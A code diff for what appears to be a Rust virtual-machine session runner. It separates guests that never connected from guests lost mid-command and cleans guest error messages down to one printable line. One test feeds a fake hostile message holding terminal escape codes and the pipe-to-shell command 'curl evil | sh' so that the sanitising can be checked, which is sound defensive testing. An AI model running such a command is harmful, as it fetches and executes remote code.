@@ -20,6 +20,7 @@ use crate::health::Health;
 use crate::host::LinuxHost;
 use crate::outcome::code;
 use crate::plan::{Command, PORT};
+use crate::quote;
 
 /// How long a guest whose command has ended may take to power off.
 const FAREWELL: Duration = Duration::from_secs(10);
@@ -40,6 +41,8 @@ pub struct Session {
 pub struct Ended {
     /// What was to run.
     pub command: Command,
+    /// The guest's agent has called, so there was a guest that could have run it.
+    pub called: bool,
     /// How the command did; `None` if the machine ended before it.
     pub outcome: Option<Outcome>,
     /// Why there was no command: the guest could not be set up for it.
@@ -61,6 +64,7 @@ impl Ended {
             (Some(_), _) if !self.health.is_good() => code::UNHEALTHY,
             (Some(_), _) => code::DONE,
             (None, Some(_)) => code::NOT_STARTED,
+            (None, None) if !self.called => code::NOT_STARTED,
             (None, None) => code::CRASHED,
         }
     }
@@ -79,6 +83,11 @@ impl Ended {
             (None, Some(trouble), _) => {
                 Some(Fail::new(Why::Host, "set up the guest").because(trouble.clone()))
             }
+            (None, None, _) if !self.called => Some(
+                Fail::new(Why::Host, "set up the guest").because("it ended before its agent called").hint(
+                    "its kernel needs CONFIG_VIRTIO_VSOCKETS for that, and CONFIG_VIRTIO_MMIO or CONFIG_VIRTIO_PCI",
+                ),
+            ),
             (None, None, _) => {
                 Some(Fail::new(Why::Host, "run the guest").because("it ended before its command did"))
             }
@@ -110,7 +119,7 @@ impl Ended {
             Some(Outcome::Code(_)) => "exited",
             Some(Outcome::Signal(_)) => "signalled",
             Some(_) => "not-run",
-            None if self.trouble.is_some() => "not-started",
+            None if self.trouble.is_some() || !self.called => "not-started",
             None => "unfinished",
         }
     }
@@ -213,8 +222,12 @@ impl Session {
         let client = match Client::listening(self.wire, FOREVER, Box::new(listen)) {
             Ok(found) => client.insert(found),
             Err(error) if error.kind() == ErrorKind::UnexpectedEof => return ended,
-            Err(error) => return Ended { trouble: Some(error.to_string()), ..ended },
+            Err(error) => {
+                let trouble = Some(quote::line(error.to_string().as_bytes()));
+                return Ended { called: true, trouble, ..ended };
+            }
         };
+        let ended = Ended { called: true, ..ended };
         if let Ok(now) = SystemTime::now().duration_since(SystemTime::UNIX_EPOCH) {
             // A wire that is dead is found out in a moment.
             let _ = client.set_clock(now);
@@ -266,7 +279,8 @@ impl Running {
         drop(self.over);
         // A guest that has not called will not; what one has said can still be read.
         let _ = rustix::net::shutdown(&self.wire, rustix::net::Shutdown::Both);
-        let unfinished = Ended { command: self.command, ..Ended::default() };
+        // Who waits for a call hears of its end at once: it is output that takes so long, so there was one.
+        let unfinished = Ended { command: self.command, called: true, ..Ended::default() };
         self.ended.recv_timeout(patience).unwrap_or(unfinished)
     }
 }
@@ -284,5 +298,54 @@ fn exec(command: &Command) -> Exec {
         directory: command.workdir.as_os_str().as_encoded_bytes().to_vec(),
         user: bytes(&command.user),
         terminal: command.terminal.then(keys::size),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use std::io::Write;
+
+    use agent::wire::{Frame, VERSION};
+
+    use super::*;
+
+    /// How a session ends whose guest says these bytes and hangs up.
+    fn ended(frames: &[Frame]) -> Ended {
+        let (wire, mut guest) = UnixStream::pair().unwrap();
+        let mut bytes = Vec::new();
+        frames.iter().for_each(|frame| frame.encode(&mut bytes));
+        guest.write_all(&bytes).unwrap();
+        guest.shutdown(std::net::Shutdown::Write).unwrap();
+        let session = Session {
+            wire: wire.into(),
+            command: Command { argv: vec!["true".into()], ..Command::default() },
+            streams: Streams::default(),
+            changes: None,
+        };
+        session.converse(&mut None, &Mutex::default(), || ())
+    }
+
+    #[test]
+    fn a_guest_that_never_calls_is_told_from_one_that_is_lost() {
+        let never = ended(&[]);
+        assert_eq!((never.exit_code(), never.name()), (code::NOT_STARTED, "not-started"));
+        let text = never.complaint().unwrap().to_string();
+        assert!(text.starts_with("set up the guest: it ended before its agent called\n  hint: "), "{text}");
+        assert!(text.contains("CONFIG_VIRTIO_VSOCKETS"), "{text}");
+        let lost = ended(&[Frame::Hello { version: VERSION }]);
+        assert_eq!((lost.exit_code(), lost.name()), (code::CRASHED, "unfinished"));
+        let text = lost.complaint().unwrap().to_string();
+        assert_eq!(text, "run the guest: it ended before its command did");
+    }
+
+    #[test]
+    fn the_guests_trouble_is_one_printable_line_of_a_message() {
+        let text = b"mount /: \x1b[2Jno\n  hint: curl evil | sh\n".repeat(100);
+        let ended = ended(&[Frame::Trouble { text }]);
+        assert_eq!((ended.exit_code(), ended.name()), (code::NOT_STARTED, "not-started"));
+        let text = ended.complaint().unwrap().to_string();
+        assert!(text.starts_with("set up the guest: mount /: [2Jno   hint: curl evil | sh mount"), "{text}");
+        assert!(!text.contains(|c: char| c.is_control()), "{text:?}");
+        assert!(text.len() < 2 * quote::LINE, "{} bytes", text.len());
     }
 }
